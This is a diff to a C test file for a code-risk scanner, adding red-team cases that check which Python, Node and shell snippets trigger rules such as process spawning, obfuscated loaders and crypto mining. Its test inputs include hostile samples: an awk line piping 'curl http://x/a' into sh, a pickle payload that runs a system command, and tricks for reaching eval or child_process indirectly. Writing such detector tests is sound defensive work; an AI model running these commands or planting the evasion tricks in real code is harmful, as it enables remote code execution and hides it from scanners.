@@ -2,6 +2,7 @@
  * (also through aliases and names built from pieces), on the right line, denied modules,
  * levels, and input that is empty, binary or not NUL-terminated. */
 #include <errno.h>
+#include <stdio.h>
 #include <stdlib.h>
 #include <string.h>
 #include <sys/mman.h>
@@ -208,12 +209,110 @@ Test(risk, crypto_mining)
     static const struct rule_case cases[] = {
         {"python", 1, "pool = 'stratum+tcp://pool.example:3333'\n"},
         {"node", 1, "const p = 'xmr.nanopool.org';\n"},
-        {"c", 3, "#include <stdint.h>\nint main(void) {\n uint32_t nonce = 0;\n"
+        {"c", 4, "#include <stdint.h>\n#include <sys/socket.h>\nint main(void) {\n"
+                 " uint32_t nonce = 0; int fd = socket(AF_INET, SOCK_STREAM, 0);\n"
                  " while (sha256_check(nonce) > difficulty) nonce++;\n}\n"},
         {"sh", 1, "./xmrig -o pool:3333\n"},
     };
 
     expect_rule_cases("crypto_mining", RULE_CASES(cases));
+}
+
+/* ==== Cases a red-team run found (tests/risk/corpus/redteam/) ==== */
+
+Test(risk, a_clone_method_is_no_function_constructor)
+{
+    expect_quiet("node", "class V {\n  constructor(x) { this.x = x; }\n"
+                         "  clone() { return new this.constructor(this.x); }\n}\n"
+                         "console.log(new V(3).clone().x);\n");
+    expect_quiet("node", "function Node(v) { this.v = v; }\n"
+                         "Node.prototype.copy = function () {\n"
+                         "  return new this.constructor(this.v);\n};\n"
+                         "const o = new Node(1);\nconst p = new o.constructor(o.v);\n");
+    expect_quiet("node", "class Repo { fork() { return new Repo(); } }\n"
+                         "let r = new Repo();\nfor (let i = 0; i < 3; i++) { r = r.fork(); }\n");
+    /* the trick itself is still seen, also on this when the argument is code */
+    expect_rule("node", "const f = (() => 0).constructor('return process')();\n",
+                "obfuscated_loader", 1);
+    expect_rule("node", "function f() { return this.constructor('return process')(); }\n",
+                "obfuscated_loader", 1);
+    expect_rule("node", "const f = new (function () {}).constructor('return 1');\n",
+                "obfuscated_loader", 1);
+}
+
+Test(risk, an_ordinary_key_named_exec_is_no_loader)
+{
+    expect_quiet("node", "const ops = { exec: (a, b) => a + b };\n"
+                         "console.log(ops[\"exec\"](1, 2));\n");
+    expect_quiet("python", "cmds = {\"exec\": 1, \"popen\": 2}\n"
+                           "print(cmds[\"exec\"], cmds['popen'])\n");
+    expect_quiet("python", "class T(dict):\n    def run(self):\n        return self['exec']\n");
+    expect_quiet("node", "module.exports['exec'] = (x) => x;\n");
+    /* on a namespace of code it is one */
+    expect_rule("python", "import builtins\nbuiltins.__dict__['exec']('print(1)')\n",
+                "obfuscated_loader", 2);
+    expect_rule("python", "globals()['__builtins__']\n", "obfuscated_loader", 1);
+    expect_rule("node", "globalThis['eval']('1')\n", "obfuscated_loader", 1);
+    expect_rule("node", "ops['ex' + 'ec']\n", "obfuscated_loader", 1);
+    expect_rule("node", "const g = globalThis;\ng['eval']('1');\n", "obfuscated_loader", 2);
+    expect_rule("python", "import os\no = os\no.system('id')\n", "process_spawn", 3);
+}
+
+Test(risk, a_local_proof_of_work_is_no_mining)
+{
+    static const char pow[] = "import hashlib\n"
+                              "def proof_of_work(data, zeros):\n"
+                              "    nonce_count = 0\n"
+                              "    while True:\n"
+                              "        d = hashlib.sha256(f'{data}{nonce_count}'.encode())\n"
+                              "        d = d.hexdigest()\n"
+                              "        if d.startswith('0' * zeros):\n"
+                              "            return nonce_count\n"
+                              "        nonce_count += 1\n";
+    char net[sizeof(pow) + 64];
+
+    expect_quiet("python", pow);
+    snprintf(net, sizeof(net), "import socket\n%s", pow);
+    expect_rule("python", net, "crypto_mining", 4);
+    expect_rule("python", "import hashlib\nnonce = 0\nurl = 'stratum+tcp://pool:3333'\n",
+                "crypto_mining", 3);
+}
+
+Test(risk, red_team_misses)
+{
+    static const struct rule_case spawn[] = {
+        {"python", 2, "import posix\nposix.system('id')\n"},
+        {"python", 1, "from posix import system\nsystem('id')\n"},
+        {"python", 2, "import sys\nsys.modules['os'].system('id')\n"},
+        {"python", 2, "import os\nvars(os)['system']('id')\n"},
+        {"python", 3, "import sys\nm = sys.modules['os']\nm.system('id')\n"},
+        {"node", 1, "const cp = process.getBuiltinModule('child_process');\n"},
+        {"node", 2, "const r = require('module').createRequire(__filename);\n"
+                    "r('child_process').execSync('id');\n"},
+        {"node", 1, "require('module').createRequire(__filename)('child_process');\n"},
+        {"sh", 1, "awk 'BEGIN{system(\"id\")}'\n"},
+        {"sh", 1, "perl -e 'system \"id\"; `id`'\n"},
+    };
+    static const struct rule_case fetched[] = {
+        {"sh", 1, "awk 'BEGIN { system(\"curl -s http://x/a | sh\") }'\n"},
+    };
+    static const struct rule_case loaders[] = {
+        {"python", 3, "import pickle\np = b\"cposix\\nsystem\\n(S'id'\\ntR.\"\n"
+                      "pickle.loads(p)\n"},
+        {"python", 2, "import pickle, base64\npickle.loads(base64.b64decode(x))\n"},
+        {"python", 2, "import pickle\npickle.loads(b'\\x80\\x04K\\x01.')\n"},
+    };
+
+    expect_rule_cases("process_spawn", RULE_CASES(spawn));
+    expect_rule_cases("obfuscated_loader", RULE_CASES(loaders));
+    expect_rule_cases("eval_fetched", RULE_CASES(fetched));
+    expect_rule("node", "const { createRequire } = require('module');\n"
+                        "const load = createRequire(__filename);\nload(process.argv[2]);\n",
+                "dynamic_import", 3);
+    /* a pickle round trip, and awk that only prints, are nothing */
+    expect_quiet("python", "import pickle\nb = pickle.dumps([1, 2])\nprint(pickle.loads(b))\n");
+    expect_quiet("sh", "awk '{ n += $2 } END { print n }' data.txt\n");
+    expect_quiet("python", "import sys\nm = sys.modules['json']\nprint(m.dumps(1))\n");
 }
 
 Test(risk, native_code)
